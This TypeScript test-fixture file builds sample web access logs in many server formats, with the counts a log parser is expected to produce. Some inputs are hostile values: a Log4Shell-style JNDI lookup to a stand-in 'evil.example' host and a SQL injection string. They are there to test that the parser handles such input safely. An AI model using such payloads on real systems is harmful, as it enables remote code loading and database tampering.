// Small logs as people have met them, one shape each, and what each must give. Addresses are those of public resolvers or documentation.

/** What the lines of one log become. `hosts` and `places` are of counted and late events together. */
export interface FieldExpectation {
  readonly counted: number;
  readonly late?: number;
  readonly dead?: Readonly<Record<string, number>>;
  readonly nulls?: number;
  readonly hosts?: Readonly<Record<string, number>>;
  /** Country codes; `(private)`, `(unknown)`, `(invalid)`. */
  readonly places?: Readonly<Record<string, number>>;
  /** Names of the formats that are found in the first lines. */
  readonly found?: string;
}

/** One log. */
export interface FieldCase {
  readonly name: string;
  readonly bytes: Uint8Array;
  readonly expect: FieldExpectation;
  /** The clock while it is read; default: a month after the events. */
  readonly now?: string;
  /** Minutes; default 1. */
  readonly watermarkDelay?: number;
  readonly trustedProxyHops?: number;
  readonly format?: string;
}

/** Host of lines that name none. */
export const FILE_HOST = "file.example";
/** Places of the addresses that the cases use. */
export const COUNTRIES = { "8.8.8.0": "US", "193.0.6.0": "NL", "2001:4860:0:0:0:0:0:0": "US" } as const;

const US = "8.8.8.8", NL = "193.0.6.139", US6 = "2001:4860:4860::8888";
const AGENT = "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0";
const LINES = 8;

interface Combined {
  readonly ip?: string;
  readonly request?: string;
  readonly referrer?: string;
  readonly agent?: string;
  readonly before?: string;
  readonly behind?: string;
  readonly status?: string;
}

const two = (n: number) => String(n).padStart(2, "0");
/** The time of minute `i` after 10 o'clock, as an access log writes it. */
const clf = (i: number) => `03/Mar/2026:${two(10 + Math.floor(i / 60))}:${two(i % 60)}:07 +0000`;
const rfc = (i: number) => `2026-03-03T10:${two(i)}:00Z`;
const unix = (i: number) => Date.UTC(2026, 2, 3, 10, i) / 1000;

function combined(i: number, with_: Combined = {}): string {
  const { ip = US, request = "GET / HTTP/1.1", referrer = "-", agent = AGENT, status = "200 512" } = with_;
  return `${with_.before ?? ""}${ip} - - [${clf(i)}] "${request}" ${status} "${referrer}" "${agent}"${
    with_.behind ?? ""
  }`;
}

const encoder = new TextEncoder();
const latin1 = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0));
const joined = (lines: readonly string[], end = "\n") => encoder.encode(lines.map((line) => line + end).join(""));
const times = (line: (i: number) => string, lines = LINES) => joined(Array.from({ length: lines }, (_, i) => line(i)));
const json = (of: (i: number) => unknown) => times((i) => JSON.stringify(of(i)));

/** All lines are counted for the host of the file, and come from the US. */
const ALL: FieldExpectation = { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: LINES } };
const SHOP: FieldExpectation = { counted: LINES, hosts: { "shop.example": LINES }, places: { US: LINES } };
const found = (of: FieldExpectation, name: string): FieldExpectation => ({ ...of, found: name });

const eventAt = (time: unknown) => ({ host: "shop.example", ip: US, event_time: time });
const minutes = (from: number, to: number) => Array.from({ length: to - from }, (_, i) => from + i);

function utf16(text: string): Uint8Array {
  const units = new Uint16Array(text.length);
  for (let i = 0; i < text.length; i++) units[i] = text.charCodeAt(i);
  return new Uint8Array(units.buffer);
}

const IIS_HEADER = [
  "#Software: Microsoft Internet Information Services 10.0",
  "#Version: 1.0",
  "#Date: 2026-03-03 10:00:00",
  "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
];

/** Logs whose lines begin as combined ones do, with more around them. */
const AROUND: FieldCase[] = [
  { name: "the request's time behind the agent", bytes: times((i) => combined(i, { behind: ` 0.00${i}` })) },
  {
    name: "Traefik's default",
    bytes: times((i) => combined(i, { behind: ` ${i + 1} "shop@docker" "http://10.0.0.3:80" 2ms` })),
  },
  {
    name: "ingress-nginx's default",
    bytes: times((i) => combined(i, { behind: ` 512 0.013 [web-shop-80] [] 10.1.0.17:5000 512 0.013 200 83${i}508` })),
  },
  { name: "Jetty: two blanks", bytes: times((i) => combined(i).replace(" - - ", " -  -  ")) },
  {
    name: "user names with blanks",
    bytes: times((i) =>
      combined(i).replace(
        "- - [",
        `- ${["-", "joe", "John Doe", "joe@example.com", '""', "DOM\\\\joe", '"car5941 "', "a b c"][i]} [`,
      )
    ),
  },
  {
    name: "quoted fields behind the agent",
    bytes: times((i) =>
      combined(i, {
        behind: [
          ' "3.21"',
          ' "-"',
          ' "www.example.com"',
          ' "USERID=abc;IMPID=1"',
          ' "8.8.4.4" "0.005"',
          ' "" ',
          "",
          " ",
        ][i]!,
      })
    ),
  },
  { name: "docker json-file", bytes: json((i) => ({ log: `${combined(i)}\n`, stream: "stdout", time: rfc(i) })) },
  { name: "CRI", bytes: times((i) => `2026-03-03T10:0${i}:00.689166775Z stdout F ${combined(i)}`) },
  { name: "syslog", bytes: times((i) => `Mar  3 10:0${i}:08 web1 nginx: ${combined(i)}`) },
  { name: "a tag in front", bytes: times((i) => `nginx: ${combined(i)}`) },
  { name: "milliseconds", bytes: times((i) => combined(i).replace(":07 +0000", ":07.123 +0000")) },
  {
    name: "a byte order mark and CRLF",
    bytes: joined(minutes(0, LINES).map((i) => (i === 0 ? "\ufeff" : "") + combined(i)), "\r\n"),
  },
].map((row, i) => ({ ...row, expect: i < 6 || i > 8 ? found(ALL, "combined") : ALL }));

const SHAPES: FieldCase[] = [
  {
    name: "Apache and Python without referrer and agent",
    bytes: times((i) => `${US} - - [03/Mar/2026 10:0${i}:00] "GET / HTTP/1.1" 200 -`),
    expect: found(ALL, "common"),
  },
  {
    name: "lighttpd: the virtual host as ident",
    bytes: times((i) => combined(i).replace(" - - ", ` www${i % 2}.example.org - `)),
    expect: ALL,
  },
  {
    name: "lighttpd, by name",
    format: "lighttpd",
    bytes: times((i) => combined(i).replace(" - - ", ` www${i % 2}.example.org - `)),
    expect: { counted: LINES, hosts: { "www0.example.org": 4, "www1.example.org": 4 }, places: { US: LINES } },
  },
  {
    name: "blank lines, and blanks around lines",
    bytes: joined([
      combined(0),
      "",
      "   ",
      `${combined(1)} `,
      `${combined(2)}\t`,
      ` ${combined(3)}`,
      combined(4),
    ]),
    expect: { counted: 5, hosts: { [FILE_HOST]: 5 }, places: { US: 5 } },
  },
  {
    name: "quotes that no server escaped",
    bytes: joined([
      combined(0),
      combined(1, { agent: 'Dalvik/2.1.0 (Linux; Alba 10" Build/LMY47I)' }),
      combined(2, { referrer: 'https://ref.example/?q="x"' }),
      combined(3, { agent: 'foo " bar' }),
      combined(4, { request: 'GET /?a="b" HTTP/1.1' }),
      combined(5, { agent: 'esc \\" ok' }),
      combined(6, { agent: "nginx \\x22 ok" }),
      combined(7, { agent: "ends with backslash \\" }),
    ]),
    expect: ALL,
  },
  {
    name: "requests that are no requests",
    bytes: joined(
      [
        "-",
        "",
        "\\x16\\x03\\x01\\x02\\x00\\xfc\\x03\\x03",
        "GET /",
        "GET / HTTP/3.0",
        "PRI * HTTP/2.0",
        "GET /a b c HTTP/1.1",
        "CONNECT host.example:443 HTTP/1.1",
      ].map((request, i) => combined(i, { request, status: ["408 -", "400 0", "000 0", "0 -"][i % 4]! })),
    ),
    expect: ALL,
  },
  {
    name: "bytes that are not UTF-8",
    bytes: latin1(
      [
        combined(0),
        combined(1, { agent: "caf\xe9" }),
        combined(2, { request: "GET /\xa5\xff HTTP/1.0" }),
        combined(3, { agent: "Fire\x00fox" }),
        combined(4, { referrer: "http://\\xe4.example/" }),
      ].map((line) => `${line}\n`).join(""),
    ),
    expect: { counted: 5, hosts: { [FILE_HOST]: 5 }, places: { US: 5 } },
  },
  {
    name: "no newline behind the last line",
    bytes: times((i) => combined(i)).slice(0, -1),
    expect: found(ALL, "combined"),
  },
  {
    name: "lines of an error log, tail's headings and compose's prefix between them",
    bytes: joined([
      combined(0),
      '2026/03/03 10:00:05 [error] 31361#31361: *18 open() "/x" failed (2: No such file), client: 8.8.8.8',
      "==> /var/log/nginx/access.log <==",
      combined(1),
      `web_1  | ${combined(2)}`,
      combined(3),
    ]),
    expect: {
      counted: 4,
      dead: { bad_line: 2 },
      hosts: { [FILE_HOST]: 4 },
      places: { US: 4 },
      found: "combined, combined in compose",
    },
  },
  {
    name: "very long lines: above 1 MiB a line is dead, the next ones are not",
    bytes: joined([
      combined(0),
      combined(1, { request: `GET /?${"a".repeat(20_000)} HTTP/1.1` }),
      combined(2, { referrer: `https://ref.example/?${"b".repeat(20_000)}` }),
      combined(3, { request: `GET /?${"a".repeat(1_200_000)} HTTP/1.1` }),
      combined(4),
    ]),
    expect: { counted: 4, dead: { too_large: 1 }, hosts: { [FILE_HOST]: 4 }, places: { US: 4 } },
  },
  {
    name: "UTF-16, as PowerShell writes it",
    bytes: utf16(`\ufeff${minutes(0, LINES).map((i) => `${combined(i)}\r\n`).join("")}`),
    expect: { counted: 0, dead: { binary_value: 9 } },
  },
];

/** Logs in which the address or the host is not where one looks first. */
const PEERS: FieldCase[] = [
  {
    name: "X-Forwarded-For as first column: no address is a host",
    bytes: times((i) => combined(i, { ip: "10.0.0.5", before: i % 4 === 0 ? "- " : `8.8.8.${10 + i} ` })),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { "(private)": LINES } },
  },
  {
    name: "X-Forwarded-For as first column, one proxy trusted",
    trustedProxyHops: 1,
    bytes: times((i) => combined(i, { ip: "10.0.0.5", before: i % 4 === 0 ? "- " : `8.8.8.${10 + i} ` })),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: 6, "(private)": 2 } },
  },
  {
    name: "a list in place of the address",
    trustedProxyHops: 1,
    bytes: times((i) => combined(i, { ip: i % 2 === 0 ? US : "8.8.8.9, 10.183.250.139" })),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: LINES } },
  },
  {
    name: "nginx' main format behind a proxy: ports, zones, hidden and hostile entries",
    trustedProxyHops: 1,
    bytes: times((i) =>
      combined(i, {
        ip: "10.0.0.5",
        behind: ` "${
          [
            US,
            `${NL}, ${US}`,
            US6,
            `[${US6}]:443`,
            `unknown, ${US}`,
            "${jndi:ldap://evil.example/a}",
            "fe80::1%eth0",
            `${US}:51234`,
          ][i]
        }"`,
      })
    ),
    expect: { counted: LINES, hosts: { [FILE_HOST]: LINES }, places: { US: 6, "(private)": 2 } },
  },
  {
    name: "spellings of addresses",
    bytes: joined(
      [
        US6,
        `::ffff:${US}`,
        "fe80::1%eth0",
        `${US}:443`,
        `[${US6}]:50000`,
        "unix:",
        "crawl-8-8-8-8.bot.example",
        "-",
        "8.8.8.0",
        "8.8.8.xxx",
        "10.0.0.1",
        "127.0.0.1",
      ].map((ip, i) => combined(i, { ip })),
    ),
    expect: {
      counted: 12,
      hosts: { [FILE_HOST]: 12 },
      places: { US: 5, "(private)": 3, "(unknown)": 1, "(invalid)": 3 },
    },
  },
  {
    name: "virtual hosts: one site is one host",
    bytes: joined(
      ["www.example.com:443", "WWW.example.com:80", "shop.example", "default", "[2001:db8::1]:443", "-", "*:80", ":80"]
        .map((host, i) => combined(i, { before: `${host} ` })),
    ),
    expect: {
      counted: LINES,
      hosts: { "www.example.com": 2, "shop.example": 1, default: 1, [FILE_HOST]: 4 },
      places: { US: LINES },
    },
  },
  {
    name: "hosts in JSON: one site is one host",
    bytes: joined(
      [
        "www.example.com",
        "WWW.Example.COM",
        "www.example.com:443",
        "www.example.com:80",
        "www.example.com.",
        "münchen.example",
        "xn--mnchen-3ya.example",
        "[2001:db8::1]:8080",
        "10.0.0.1",
        " www.example.com",
        "-",
        "_",
        "*.example.com",
        "x' or 1=1--",
      ].map((host, i) => JSON.stringify({ host, ip: US, event_time: rfc(i) })),
    ),
    expect: {
      counted: 14,
      hosts: {
        "www.example.com": 6,
        "xn--mnchen-3ya.example": 2,
        "(address)": 2,
        [FILE_HOST]: 1,
        _: 1,
        "(invalid)": 2,
      },
      places: { US: 14 },
    },
  },
];

/** JSON of servers, and other servers' columns. */
const SERVERS: FieldCase[] = [
  {
    name: "Caddy",
    bytes: json((i) => ({
      level: "info",
      ts: unix(i) + 0.25,
      logger: "http.log.access.log0",
      msg: "handled request",
      request: {
        remote_ip: US,
        client_ip: US,
        proto: "HTTP/2.0",
        method: "GET",
        host: "shop.example",
        uri: "/",
        headers: { "User-Agent": [AGENT] },
      },
      status: 200,
    })),
    expect: found(SHOP, "caddy"),
  },
  {
    name: "Traefik's JSON",
    bytes: json((i) => ({
      ClientAddr: `${US}:39496`,
      ClientHost: US,
      RequestHost: "shop.example",
      RequestPath: "/",
      StartUTC: `2026-03-03T10:0${i}:00.201712623Z`,
      time: rfc(i),
    })),
    expect: found(SHOP, "traefik_json"),
  },
  {
    name: "Cloudflare, nanoseconds",
    bytes: times((i) =>
      `{"ClientIP":"${US}","ClientRequestHost":"shop.example","ClientRequestURI":"/","EdgeStartTimestamp":${unix(i)}${
        "0".repeat(9)
      }}`
    ),
    expect: found(SHOP, "cloudflare"),
  },
  {
    name: "nginx' JSON with the server's own names",
    bytes: json((i) => ({
      time_local: clf(i),
      time_iso8601: rfc(i),
      remote_addr: US,
      request: "GET / HTTP/1.1",
      status: "200",
      http_user_agent: AGENT,
      host: "shop.example",
    })),
    expect: found(SHOP, "json"),
  },
  {
    name: "nginx' JSON for another analyser",
    bytes: json((i) => ({ ip: US, host: "shop.example", path: "/", status: "200", user_agent: AGENT, date: rfc(i) })),
    expect: found(SHOP, "json"),
  },
  {
    name: "nginx' JSON with \\x22 in it",
    bytes: times((i) =>
      `{"user_agent":"Dalvik (Tab 10\\x22 X)","host":"shop.example","ip":"${US}","event_time":"${rfc(i)}"}`
    ),
    expect: SHOP,
  },
  {
    name: "$msec as number, and as text",
    bytes: times((i) =>
      i % 2 === 0
        ? `{"host":"shop.example","ip":"${US}","event_time":${unix(i)}.00${i}}`
        : JSON.stringify(eventAt(`${unix(i)}.007`))
    ),
    expect: found(SHOP, "json"),
  },
  {
    name: "microseconds and nanoseconds",
    bytes: times((i) =>
      `{"host":"shop.example","ip":"${US}","event_time":${unix(i)}${"0".repeat(i % 2 === 0 ? 9 : 6)}}`
    ),
    expect: SHOP,
  },
  {
    name: "IIS",
    bytes: joined([
      ...IIS_HEADER,
      ...minutes(0, LINES).map((i) =>
        `2026-03-03 10:0${i}:00 10.1.1.1 GET / - 443 - ${US} Mozilla/5.0+(X11) - 200 0 0 12`
      ),
    ], "\r\n"),
    expect: { ...ALL, nulls: 4, found: "iis" },
  },
  {
    name: "CloudFront",
    bytes: joined([
      "#Version: 1.0",
      "#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query",
      ...minutes(0, LINES).map((i) =>
        ["2026-03-03", `10:0${i}:00`, "FRA2", "500", US, "GET", "d1.cloudfront.net", "/", "200", "-", "Moz", "-"].join(
          "\t",
        )
      ),
    ]),
    expect: {
      counted: LINES,
      nulls: 2,
      hosts: { "d1.cloudfront.net": LINES },
      places: { US: LINES },
      found: "cloudfront",
    },
  },
  {
    name: "a byte order mark before JSON",
    bytes: joined([`\ufeff${JSON.stringify(eventAt(rfc(0)))}`, JSON.stringify(eventAt(rfc(1)))], "\r\n"),
    expect: { counted: 2, hosts: { "shop.example": 2 }, places: { US: 2 } },
  },
  {
    name: "a JSON array over several lines: the brackets are no events",
    bytes: joined(["[", `  ${JSON.stringify(eventAt(rfc(0)))},`, `  ${JSON.stringify(eventAt(rfc(1)))}`, "]"]),
    expect: { counted: 2, dead: { bad_line: 2 }, hosts: { "shop.example": 2 }, places: { US: 2 } },
  },
];

/** Times and their order. */
const TIMES: FieldCase[] = [
  {
    name: "times of access logs: summer time, short days, zones, days that do not exist, another language",
    bytes: joined(
      [
        "29/Mar/2026:01:59:59 +0100",
        "29/Mar/2026:03:00:00 +0200",
        "29/Mar/2026:03:00:05 +0200",
        "5/Apr/2026:10:00:00 +0000",
        "05/APR/2026:10:00:10 +0000",
        "05/Apr/2026:15:45:20 +0545",
        "05/Apr/2026:10:00:30 GMT",
        "05/Apr/2026:10:00:40",
        "05/avr./2026:10:00:50 +0000",
        "30/Jun/2026:23:59:60 +0000",
        "31/Apr/2026:10:00:00 +0000",
        "05/Apr/2026:10:01:00 -0000",
      ].map((time) => `${US} - - [${time}] "GET / HTTP/1.1" 200 5 "-" "a"`),
    ),
    now: "2026-07-01T00:00:00Z",
    expect: { counted: 9, dead: { bad_event_time: 3 }, hosts: { [FILE_HOST]: 9 }, places: { US: 9 } },
  },
  {
    name: "times of JSON",
    bytes: joined(
      [
        '"2026-03-03T10:00:00.123456789Z"',
        '"2026-03-03T11:00:01.5+01:00"',
        '"2026-03-03 10:00:02"',
        '"2026-03-03T10:00:03+0000"',
        '"2026-03-03T10:00:04 +00:00"',
        '"2026-03-03T10:00:05,250Z"',
        "1772532006",
        '"1772532007000"',
        "1772532008.25",
        '"03/Mar/2026:10:00:09 +0000"',
        '"Tue, 03 Mar 2026 10:00:10 GMT"',
        '"2026-03-03T10:00Z"',
      ].map((time) => `{"host":"shop.example","ip":"${US}","event_time":${time}}`),
    ),
    expect: { counted: 12, hosts: { "shop.example": 12 }, places: { US: 12 } },
  },
  {
    name: "the newest file first: what follows is late",
    bytes: joined([...minutes(40, 50), ...minutes(0, 10)].map((i) => combined(i))),
    expect: { counted: 10, late: 10 },
  },
  {
    name: "one clock far ahead of ours: that line alone is dead",
    bytes: joined(minutes(0, 50).map((i) => i === 10 ? combined(i).replace("03/Mar", "03/Oct") : combined(i))),
    expect: { counted: 49, dead: { future_event_time: 1 } },
  },
  {
    name: "two workers that each write ten minutes at once: late",
    bytes: joined(
      [0, 10, 20, 30, 40].flatMap((from) =>
        [US, NL].flatMap((ip) => minutes(from, from + 10).map((i) => combined(i, { ip })))
      ),
    ),
    expect: { counted: 75, late: 25, places: { US: 50, NL: 50 } },
  },
  {
    name: "the same with a watermark delay of 15 minutes",
    watermarkDelay: 15,
    bytes: joined(
      [0, 10, 20, 30, 40].flatMap((from) =>
        [US, NL].flatMap((ip) => minutes(from, from + 10).map((i) => combined(i, { ip })))
      ),
    ),
    expect: { counted: 100, places: { US: 50, NL: 50 } },
  },
  {
    name: "long requests, written at their end with the time of their begin",
    bytes: joined(
      minutes(0, 50).flatMap((i) => [
        ...(i === 30 ? [combined(5, { request: "GET /big.iso HTTP/1.1" })] : []),
        ...(i === 44 ? [combined(12, { request: "GET /ws HTTP/1.1" })] : []),
        combined(i),
      ]),
    ),
    expect: { counted: 50, late: 2 },
  },
];

export const FIELD_CASES: readonly FieldCase[] = [...AROUND, ...SHAPES, ...PEERS, ...SERVERS, ...TIMES];
